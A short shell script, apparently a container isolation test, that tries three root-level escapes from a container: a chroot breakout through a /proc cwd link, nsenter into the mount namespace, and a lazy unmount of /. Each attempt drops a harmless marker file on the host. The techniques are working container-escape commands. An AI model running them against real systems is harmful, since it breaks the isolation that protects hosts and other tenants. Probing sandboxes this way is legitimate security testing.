# escape.sh OUTSIDE STATUS runs in the container, as root, and tries to make files in the host's directory OUTSIDE.
b=/bin/busybox outside=$1 status=$2

# walk: chroot(2) leaves the working directory alone. A process whose root is /cell enters, by the link of another
# process in /proc, a directory outside of /cell: its ".." stops at no root any more, only where the mounts end.
$b sleep 1000000 &
$b mkdir -p /cell/bin /cell/proc
$b cp $b /cell/bin/busybox
$b mount -t proc proc /cell/proc
$b chroot /cell $b sh -c "cd /proc/$!/cwd && cd -P ../../../../../../../.. && echo out >.$outside/walk"
kill $!
$b umount /cell/proc

# enter: who joins a mount namespace gets that namespace's root, even if it is the one he is in.
$b nsenter --mount=/proc/self/ns/mnt /bin/sh -c "echo out >$outside/enter"

# uncover: if / is a mount over the host's, it can be taken off. (A working directory in the old /proc still leads there.)
cd /proc
$b umount -l /
$b nsenter --mount=self/ns/mnt /bin/sh -c "echo out >$outside/uncover"
exit $status
